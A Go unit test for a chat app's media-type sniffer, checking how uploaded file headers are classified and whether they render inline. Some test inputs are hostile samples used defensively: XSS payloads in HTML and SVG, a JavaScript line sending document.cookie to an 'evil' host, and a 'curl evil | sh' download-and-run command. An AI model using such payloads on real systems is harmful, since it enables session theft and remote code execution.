package media_test

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"testing"

	"github.com/parley-chat/parley/pkg/contracts"
	"github.com/parley-chat/parley/pkg/media"
)

func zipOf(t *testing.T, stored string, names ...string) []byte {
	t.Helper()
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	if stored != "" {
		w, err := zw.CreateHeader(&zip.FileHeader{Name: "mimetype", Method: zip.Store})
		if err != nil {
			t.Fatal(err)
		}
		w.Write([]byte(stored))
	}
	for _, n := range names {
		w, err := zw.Create(n)
		if err != nil {
			t.Fatal(err)
		}
		w.Write([]byte("<xml>content</xml>"))
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func tarOf(t *testing.T) []byte {
	t.Helper()
	var b bytes.Buffer
	tw := tar.NewWriter(&b)
	tw.WriteHeader(&tar.Header{Name: "a.txt", Mode: 0o644, Size: 2})
	tw.Write([]byte("hi"))
	tw.Close()
	return b.Bytes()
}

func gzipOf(t *testing.T) []byte {
	t.Helper()
	var b bytes.Buffer
	zw := gzip.NewWriter(&b)
	zw.Write([]byte("hello"))
	zw.Close()
	return b.Bytes()
}

func TestSniff(t *testing.T) {
	const (
		image    = contracts.FileKindImage
		document = contracts.FileKindDocument
		archive  = contracts.FileKindArchive
		av       = contracts.FileKindMedia
		other    = contracts.FileKindOther
	)
	cases := []struct {
		name   string
		head   []byte
		ct     string
		kind   string
		inline bool
	}{
		{"png", encodePNG(t, solid(2, 2, red)), "image/png", image, true},
		{"jpeg", encodeJPEG(t, solid(2, 2, red)), "image/jpeg", image, true},
		{"gif", []byte("GIF89a\x01\x00\x01\x00\x00\x00\x00;"), "image/gif", image, true},
		{"webp", webpSolid(2, 2, red8), "image/webp", image, true},
		// Named photo.jpg by the client: the name is not an input at all.
		{"pdf named .jpg", []byte("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj"), "application/pdf", document, true},
		{"plain text", []byte("Hello,\nmy order 1234 has not arrived.\n"), "text/plain; charset=utf-8", document, true},
		{"csv", []byte("id,name,total\n1,Ann,3.50\n"), "text/plain; charset=utf-8", document, true},
		{"json", []byte(`{"order": 1234, "items": [1, 2]}`), "text/plain; charset=utf-8", document, true},
		{"text starting BM", []byte("BMW service report, March"), "text/plain; charset=utf-8", document, true},
		{"prose starting Export", []byte("Export of the March figures"), "text/plain; charset=utf-8", document, true},
		{"utf-16 text", []byte("\xff\xfeh\x00i\x00"), "text/plain; charset=utf-16le", document, false},
		{"docx", zipOf(t, "", "[Content_Types].xml", "_rels/.rels", "word/document.xml"), "application/vnd.openxmlformats-officedocument.wordprocessingml.document", document, false},
		{"xlsx", zipOf(t, "", "[Content_Types].xml", "_rels/.rels", "xl/workbook.xml"), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", document, false},
		{"odt", zipOf(t, "application/vnd.oasis.opendocument.text", "content.xml"), "application/vnd.oasis.opendocument.text", document, false},
		{"legacy office", []byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\x00\x00"), "application/vnd.ms-office", document, false},
		{"rtf", []byte(`{\rtf1\ansi hello}`), "application/rtf", document, false},
		{"zip", zipOf(t, "", "photos/a.txt"), "application/zip", archive, false},
		{"gzip", gzipOf(t), "application/gzip", archive, false},
		{"tar", tarOf(t), "application/x-tar", archive, false},
		{"7z", []byte("7z\xbc\xaf\x27\x1c\x00\x04"), "application/x-7z-compressed", archive, false},
		{"rar", []byte("Rar!\x1a\x07\x01\x00"), "application/vnd.rar", archive, false},
		{"mp3 with ID3", []byte("ID3\x04\x00\x00\x00\x00\x00\x23TSSE"), "audio/mpeg", av, false},
		{"mp3 frame", []byte("\xff\xfb\x90\x64\x00\x00\x00\x00"), "audio/mpeg", av, false},
		{"ogg", []byte("OggS\x00\x02\x00\x00"), "audio/ogg", av, false},
		{"flac", []byte("fLaC\x00\x00\x00\x22"), "audio/flac", av, false},
		{"wav", []byte("RIFF\x24\x00\x00\x00WAVEfmt "), "audio/wav", av, false},
		{"mp4", []byte("\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2"), "video/mp4", av, false},
		{"mov", []byte("\x00\x00\x00\x14ftypqt  \x00\x00\x00\x00"), "video/quicktime", av, false},
		{"m4a", []byte("\x00\x00\x00\x1cftypM4A \x00\x00\x00\x00"), "audio/mp4", av, false},
		{"webm", []byte("\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01"), "video/webm", av, false},
		{"heic is not re-encodable", []byte("\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic"), "image/heic", other, false},
		{"html named .png", []byte("<!DOCTYPE html><html><body><script>alert(document.cookie)</script>"), "text/html; charset=utf-8", other, false},
		{"html after whitespace", []byte("\n\n   <html><p>hi"), "text/html; charset=utf-8", other, false},
		{"svg with script", []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`), "image/svg+xml", other, false},
		{"svg with xml prolog", []byte("<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"), "image/svg+xml", other, false},
		{"svg after a BOM", []byte("\xef\xbb\xbf<svg onload=alert(1)>"), "image/svg+xml", other, false},
		{"svg behind a comment", []byte("<!-- hi --><svg onload=alert(1)>"), "image/svg+xml", other, false},
		{"xml", []byte(`<?xml version="1.0"?><order id="1"/>`), "text/xml; charset=utf-8", other, false},
		{"unknown markup", []byte(`<x:note xmlns:x="urn:x">hi</x:note>`), "text/xml", other, false},
		{"javascript", []byte("function steal() { fetch('//evil/' + document.cookie) }"), "text/javascript", other, false},
		{"strict javascript", []byte("'use strict';\nwindow.x = 1"), "text/javascript", other, false},
		{"shell script", []byte("#!/bin/sh\ncurl evil | sh\n"), "text/javascript", other, false},
		{"text hiding a script", []byte("Dear team,\nplease see below.\n<ScRiPt>alert(1)</script>"), "text/plain; charset=utf-8", other, false},
		{"text with a javascript: link", []byte("click javascript:alert(1)"), "text/plain; charset=utf-8", other, false},
		{"postscript", []byte("%!PS-Adobe-3.0\n"), "application/postscript", other, false},
		{"windows program", []byte("MZ\x90\x00\x03\x00\x00\x00"), "application/x-msdownload", other, false},
		{"elf program", []byte("\x7fELF\x02\x01\x01"), "application/x-executable", other, false},
		{"unknown binary", []byte{0x00, 0x01, 0x02, 0x03, 0xfe}, "application/octet-stream", other, false},
		{"empty", nil, "application/octet-stream", other, false},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got := media.Sniff(c.head)
			want := media.Type{ContentType: c.ct, Kind: c.kind, Inline: c.inline}
			if got != want {
				t.Fatalf("Sniff = %+v, want %+v", got, want)
			}
		})
	}
}
